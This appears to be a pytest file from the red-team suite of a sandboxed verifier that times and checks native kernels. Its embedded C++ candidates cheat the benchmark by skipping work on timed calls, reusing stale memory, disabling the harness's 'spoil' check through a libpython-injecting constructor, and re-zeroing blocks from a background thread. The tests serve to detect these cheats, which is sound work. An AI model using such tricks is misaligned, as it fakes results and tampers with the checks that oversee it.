    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    assert "seccomp filter(s) where its candidate phase has" in out.message, out.message


def test_the_candidate_phase_allows_a_list_per_runtime_need():
    """An allow-list: what is not named is refused (open, dup, pipe, socket, and anything a later kernel adds);
    threads, signal timers and device ioctls only where the backend's ``RuntimeNeeds`` says its runtime needs them."""
    from verifier.sandbox.seccomp import CPU_NEEDS, RuntimeNeeds, candidate_allow

    cpu = set(candidate_allow(CPU_NEEDS))
    for name in ("open", "openat", "openat2", "dup", "dup2", "dup3", "pipe2", "socket", "flock", "seccomp", "ioctl",
                 "timer_create", "setitimer", "execve", "fork", "kill", "ptrace", "process_vm_readv"):
        assert name not in cpu, name
    assert {"clone", "clone3", "futex", "read", "write", "mmap", "getitimer"} <= cpu
    assert not {"clone", "clone3"} & set(candidate_allow(RuntimeNeeds(threads=False)))
    assert "timer_create" in candidate_allow(RuntimeNeeds(signal_timers=True))
    assert "ioctl" in candidate_allow(RuntimeNeeds(device_ioctls=True))


# Red team (#35, third pass): a task whose reference writes duplicate indices in an unspecified order has places
# nobody can judge (``Reference.ignore``). In the window's timed calls, whose outputs are sampled, such an output
# used to be left out whole, so only the two calls after the window (compared in full) checked it. This kernel
# does nothing at all on its window's first calls (the warm-up and every timed round of ``fast_config``: 1 + 5),
# and the real work from its 7th call on; in the correctness job it always works.
SCATTER_SKIPS_TIMED_CALLS = r'''
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <unistd.h>
''' + WINDOW_PROBE + r'''static int window = -1, calls = 0;
extern "C" void scatter_1d(const float* x, const int64_t* index, const float* src, float* out, int64_t n, int64_t m) {
    if (window < 0) window = window_probe();
    if (window && ++calls > 5 && (calls & 1)) return;   // every other call in the window once warmed up
    for (int64_t i = 0; i < n; ++i) out[i] = x[i];
    for (int64_t j = 0; j < m; ++j) out[index[j]] = src[j];
}
'''


@pytest.mark.slow
def test_a_kernel_cannot_skip_the_timed_calls_of_a_task_with_places_nobody_judges(unguarded, make_candidate):
    """Before: "feasible; 0.787 ms, 2.92x faster than the reference (3.044 ms in the same window) [1.09, 4.60]" (on
    a 32 MiB scatter, the work skipped on the first 8 of its rounds: "2.69x faster" [1.29, 8.71], where the same
    kernel working on every call read 0.83-0.94x). After: a sampled output is compared at its drawn positions but
    those the reference cannot decide ("timed call 1 (at random positions): ... 1024 of 1024 values differ"). The
    kernel skips every other call once warmed up (the window's first calls, its warm-up and the calibration of how
    many calls a sample takes, are not checked, issue #47: skipping those gains no timed call)."""
    from pathlib import Path

    import soundness_candidates as S

    from core.tasks import load_suite

    soundness = load_suite(Path(__file__).resolve().parent.parent / "fixtures" / "soundness")
    out = unguarded.verify(soundness.get("scatter_dup").spec(),
                           make_candidate({"model.py": S.SCATTER_MODEL, "kernel.cpp": SCATTER_SKIPS_TIMED_CALLS}),
                           fresh=True)
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    # caught at a timed call, or, where the window's calibration took one call more (a loaded machine) and every
    # skipped call fell outside the timed ones, at the call after timing: refused either way, never timed faster
    assert "taken the moment it reported done" in out.message, out.message
    assert "timed call" in out.message or "a call after timing" in out.message, out.message


# Red team (#35, third pass): in the window the allocator hands each call the block the last call's output was
# in, so a kernel that writes only what depends on the inputs finds the rest (a padding's zeros) already there.
# In the correctness job (blocks reused across trials of other shapes and data) it writes everything.
PAD_MODEL = '''
import torch
import torch.nn as nn
from verifier.runtime import load

lib = load()


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        rows, cols = x.shape
        out = torch.empty(rows, cols * 16, dtype=x.dtype)
        lib.pad_rows(x, out, rows, cols)
        return out
'''
PAD_LEAVES_THE_ZEROS = r'''
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <unistd.h>
''' + WINDOW_PROBE + r'''static int window = -1;
extern "C" void pad_rows(const float* x, float* out, int64_t rows, int64_t cols) {
    if (window < 0) window = window_probe();
    for (int64_t r = 0; r < rows; ++r) {
        std::memcpy(out + r * cols * 16, x + r * cols, cols * sizeof(float));
        if (!window) std::memset(out + r * cols * 16 + cols, 0, cols * 15 * sizeof(float));
    }
}
'''


@pytest.mark.slow
def test_a_kernel_cannot_leave_part_of_its_output_to_the_last_call(unguarded, make_candidate):
    """Before: "feasible; 1.012 ms, 3.44x faster than the reference (3.278 ms in the same window) [1.50, 6.05]" in 1
    run of 2 (the other caught at a call after timing, where 132 places held other data); scratch runs with 20
    rounds: 1.92x and 4.37x faster where writing the zeros read 1.19x and 1.63x. After: a side's outputs are spoiled
    (all bits set) once the harness has read them, and the heap's top it touches is left spoiled too, so the next
    call finds no zeros to keep: "timed call 1 (at random positions): the output has NaN where the reference has
    none (954 places)"."""
    from pathlib import Path

    from core.tasks import load_suite

    redteam = load_suite(Path(__file__).resolve().parent.parent / "fixtures" / "redteam")
    out = unguarded.verify(redteam.get("pad_zeros").spec(),
                           make_candidate({"model.py": PAD_MODEL, "kernel.cpp": PAD_LEAVES_THE_ZEROS}), fresh=True)
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    assert "timed call" in out.message and "taken the moment it reported done" in out.message, out.message


@pytest.mark.slow
def test_a_kernel_that_writes_its_whole_output_passes_with_spoiled_memory(unguarded, make_candidate):
    from pathlib import Path

    from core.tasks import load_suite

    redteam = load_suite(Path(__file__).resolve().parent.parent / "fixtures" / "redteam")
    honest = PAD_LEAVES_THE_ZEROS.replace("if (!window) std::memset", "std::memset")
    out = unguarded.verify(redteam.get("pad_zeros").spec(), make_candidate({"model.py": PAD_MODEL, "kernel.cpp": honest}),
                           fresh=True)
    assert out.feasible, out.message


# Red team (#35, i35r): the in-side spoiling is the job's own Python, in a process that runs the candidate's native
# code. The build refuses a library that imports the interpreter's C API or the loader's lookups, but a load-time
# constructor can find libpython in /proc/self/maps and read its symbol table from the file; it then replaces the
# side's ``spoil`` (and ``warm_heap_top``, which fills freed blocks too) with a function that does nothing. The kernel writes the padding only into a block it has not
# written before (it remembers the addresses), so from its second window call on the zeros are the last call's.
PAD_TURNS_THE_SPOILING_OFF = r"""
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <elf.h>
""" + WINDOW_PROBE + r"""static void* python_symbol(const char* path, uintptr_t base, const char* name) {
    FILE* f = fopen(path, "rb");
    if (!f) return nullptr;
    fseek(f, 0, SEEK_END); long size = ftell(f); fseek(f, 0, SEEK_SET);
    char* file = (char*)malloc(size);
    void* found = nullptr;
    if (file && fread(file, 1, size, f) == (size_t)size) {
        Elf64_Ehdr* eh = (Elf64_Ehdr*)file;
        Elf64_Shdr* sh = (Elf64_Shdr*)(file + eh->e_shoff);
        for (int i = 0; i < eh->e_shnum && !found; ++i) {
            if (sh[i].sh_type != SHT_DYNSYM) continue;
            Elf64_Sym* sym = (Elf64_Sym*)(file + sh[i].sh_offset);
            const char* names = file + sh[sh[i].sh_link].sh_offset;
            for (size_t k = 0; k < sh[i].sh_size / sizeof(Elf64_Sym); ++k)
                if (sym[k].st_value && !strcmp(names + sym[k].st_name, name)) { found = (void*)(base + sym[k].st_value); break; }
        }
    }
    free(file);
    fclose(f);
    return found;
}
__attribute__((constructor)) static void spoiling_off() {
    FILE* maps = fopen("/proc/self/maps", "r");
    if (!maps) return;
    char line[1024], path[512] = {0};
    uintptr_t base = 0;
    while (fgets(line, sizeof line, maps)) {
        unsigned long start, offset;
        char file[512] = {0};
        if (sscanf(line, "%lx-%*lx %*s %lx %*s %*s %511s", &start, &offset, file) == 3 && offset == 0 &&
            strstr(file, "libpython")) { base = start; strcpy(path, file); break; }
    }
    fclose(maps);
    if (!base) return;
    typedef int (*Ensure)(void);
    typedef void (*Release)(int);
    typedef int (*Run)(const char*);
    Ensure ensure = (Ensure)python_symbol(path, base, "PyGILState_Ensure");
    Release release = (Release)python_symbol(path, base, "PyGILState_Release");
    Run run = (Run)python_symbol(path, base, "PyRun_SimpleString");
    if (!ensure || !release || !run) return;
    int state = ensure();
    run("import sys\n"
        "side = sys.modules.get('verifier.window.side')\n"
        "if side is not None: side.spoil = side.warm_heap_top = lambda *a, **k: None\n");
    release(state);
}
static int window = -1;
static float* written[8];
static int nwritten = 0;
extern "C" void pad_rows(const float* x, float* out, int64_t rows, int64_t cols) {
    if (window < 0) window = window_probe();
    bool known = false;
    for (int i = 0; i < nwritten; ++i) known |= written[i] == out;
    for (int64_t r = 0; r < rows; ++r) {
        std::memcpy(out + r * cols * 16, x + r * cols, cols * sizeof(float));
        if (!window || !known) std::memset(out + r * cols * 16 + cols, 0, cols * 15 * sizeof(float));
    }
    if (window && !known && nwritten < 8) written[nwritten++] = out;
}
"""


@pytest.mark.slow
def test_native_code_cannot_turn_the_spoiling_off(unguarded, make_candidate):
    """Before (i35s, on 4cf0091): passed correctness (see the report). After: the spoiling is the harness's, done with
    the side stopped, beyond the reach of anything in the side's process."""
    from pathlib import Path

    from core.tasks import load_suite

    redteam = load_suite(Path(__file__).resolve().parent.parent / "fixtures" / "redteam")
    with C.without_load_time_check():   # its constructor, refused by the link check since #48
        out = unguarded.verify(redteam.get("pad_zeros").spec(),
                               make_candidate({"model.py": PAD_MODEL, "kernel.cpp": PAD_TURNS_THE_SPOILING_OFF}),
                               fresh=True)
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    # at a timed call, or (1 run in the fresh-clone suite, the window's few rounds handing out new blocks) at a call
    # after timing: either is the harness's own reading of a stopped side
    assert ("timed call" in out.message or "a call after timing" in out.message) and \
        "taken the moment it reported done" in out.message, out.message


# Honest: the padding written by every OpenMP thread, into an output made after an input-sized temporary the
# model frees (so the blocks the allocator hands out move between calls, and an earlier output's memory may be
# free, or another tensor's, when the harness spoils).
PAD_OPENMP = r'''
#include <cstdint>
#include <cstring>
extern "C" void pad_rows(const float* x, float* out, int64_t rows, int64_t cols) {
    #pragma omp parallel for schedule(static)
    for (int64_t r = 0; r < rows; ++r) {
        std::memcpy(out + r * cols * 16, x + r * cols, cols * sizeof(float));
        std::memset(out + r * cols * 16 + cols, 0, cols * 15 * sizeof(float));
    }
}
'''
PAD_MODEL_WITH_A_TEMPORARY = PAD_MODEL.replace(
    "        x = x.contiguous()\n",
    "        x = x.contiguous()\n        spare = torch.empty(x.shape[0], x.shape[1] * 16, dtype=x.dtype)\n")


@pytest.mark.slow
def test_an_openmp_kernel_that_writes_its_whole_output_passes_with_spoiled_memory(unguarded, make_candidate):
    from pathlib import Path

    from core.tasks import load_suite

    redteam = load_suite(Path(__file__).resolve().parent.parent / "fixtures" / "redteam")
    for model in (PAD_MODEL, PAD_MODEL_WITH_A_TEMPORARY):
        out = unguarded.verify(redteam.get("pad_zeros").spec(),
                               make_candidate({"model.py": model, "kernel.cpp": PAD_OPENMP}), fresh=True)
        assert out.feasible, out.message


# Red team (#35, i35r and i35s): a thread of the kernel's own keeps the padding of every block its calls returned zero
# whenever no call runs (it stops the moment one starts): after the harness's spoiling, while the side settles (the
# side used to be awake then with every thread running), and after anything else wrote there. The allocator hands a
# window call one of the blocks earlier calls returned (here they cycle through three; the last call's own, spoiled by
# the harness after the settle, is not among them), so from its fourth window call on the kernel writes only the
# inputs' part into any of them. In the correctness job it writes everything.
PAD_REZEROES_WHILE_SETTLING = r'''
#include <cstdint>
#include <cstring>
#include <pthread.h>
#include <atomic>
#include <time.h>
''' + WINDOW_PROBE + r'''static int window = -1, calls = 0;
static std::atomic<float*> blocks[8];
static std::atomic<int64_t> shape_rows{0}, shape_cols{0};
static std::atomic<int> in_call{0};

static bool spoiled(const float* out, int64_t rows, int64_t cols) {
    const float* at[3] = {out + cols, out + (rows / 2) * cols * 16 + cols + 7, out + rows * cols * 16 - 1};
    for (const float* p : at) { uint32_t bits; std::memcpy(&bits, p, sizeof bits); if (bits) return true; }
    return false;
}

static void* keep_zero(void*) {
    for (;;) {
        int64_t rows = shape_rows.load(), cols = shape_cols.load();
        for (auto& b : blocks) {
            float* out = b.load();
            if (!out || in_call.load() || !spoiled(out, rows, cols)) continue;
            for (int64_t r = 0; r < rows && !in_call.load(); ++r)
                std::memset(out + r * cols * 16 + cols, 0, cols * 15 * sizeof(float));
        }
        struct timespec pause = {0, 20000};
        nanosleep(&pause, nullptr);
    }
    return nullptr;
}

extern "C" void pad_rows(const float* x, float* out, int64_t rows, int64_t cols) {
    in_call.store(1);
    if (window < 0) {
        window = window_probe();
        if (window) { pthread_t t; pthread_create(&t, nullptr, keep_zero, nullptr); pthread_detach(t); }
    }
    bool known = false;
    for (auto& b : blocks) known |= b.load() == out;
    bool skip = window && ++calls >= 4 && known;
    for (int64_t r = 0; r < rows; ++r) {
        std::memcpy(out + r * cols * 16, x + r * cols, cols * sizeof(float));
        if (!skip) std::memset(out + r * cols * 16 + cols, 0, cols * 15 * sizeof(float));
    }
    static int nblocks = 0;
    if (window && !known && nblocks < 8) {
        shape_rows.store(rows); shape_cols.store(cols);
        blocks[nblocks++].store(out);
    }
    in_call.store(0);
}
'''


def _switches(pid: int) -> dict[int, int]:
    """Context switches so far of each thread of ``pid`` but its first: a thread that runs at all adds some."""
    import os

    out = {}
    for tid in {int(t) for t in os.listdir(f"/proc/{pid}/task")} - {pid}:
        try:
            with open(f"/proc/{pid}/task/{tid}/status") as f:
                out[tid] = sum(int(line.split()[1]) for line in f if "ctxt_switches:" in line)
        except (OSError, ValueError, IndexError):
            pass
    return out


@pytest.mark.slow
def test_no_thread_of_the_candidate_runs_while_its_side_settles(unguarded, make_candidate, monkeypatch):
    """Before (main 5bcf605, every thread running while the side settles): its thread ran in every settle (context
    switches counted around each); verdicts "feasible; 6.372 ms, 2.30x faster than the reference" (and refused or
    "could not tell" in other runs: the thread does not always finish a block); "2.32x faster [1.23, 8.42]" and
    "3.69x faster [3.19, 10.14]" on 4cf0091 (i35s). After: every thread but the side's own is held in a ptrace stop
    while the side settles (no context switch of any), so a block a call is handed holds what ``warm_heap_top`` left
    there (all bits set) unless the thread zeroed it inside the clock (it runs from the moment the side is continued
    for a call until the kernel starts): refused where a call skipped padding the thread had not reached ("a call
    after timing: the output has NaN ... (7864320 places)"), else timed with that work ("1.81x slower than the
    reference")."""
    from pathlib import Path

    from core.tasks import load_suite
    from verifier.window import harness as window
    from verifier.window.messages import Settle

    ran: list[dict[int, int]] = []
    awake = window.Side.awake

    def counted(self, command):
        pid = self.handle.host_pid() if self.handle is not None and not self.trusted else None
        if pid is None or not isinstance(command, Settle):
            return awake(self, command)
        before = _switches(pid)
        try:
            return awake(self, command)
        finally:
            after = _switches(pid)
            ran.append({tid: after[tid] - n for tid, n in before.items() if tid in after and after[tid] != n})

    monkeypatch.setattr(window.Side, "awake", counted)
    redteam = load_suite(Path(__file__).resolve().parent.parent / "fixtures" / "redteam")
    out = unguarded.verify(redteam.get("pad_zeros").spec(),
                           make_candidate({"model.py": PAD_MODEL, "kernel.cpp": PAD_REZEROES_WHILE_SETTLING}),
                           fresh=True)
    assert len(ran) >= 4, ran                         # settles with the kernel's thread there (from the first call)
    assert not any(ran), f"threads of the candidate's ran while its side settled: {ran}"
    if out.feasible:     # the zeros its thread wrote inside the clock: paid for there
        assert "faster than the reference" not in out.message, out.message
        return
    assert out.failed_gate == "correctness", (out.failed_gate, out.message)
    assert ("timed call" in out.message or "a call after timing" in out.message) and \
        "taken the moment it reported done" in out.message, out.message
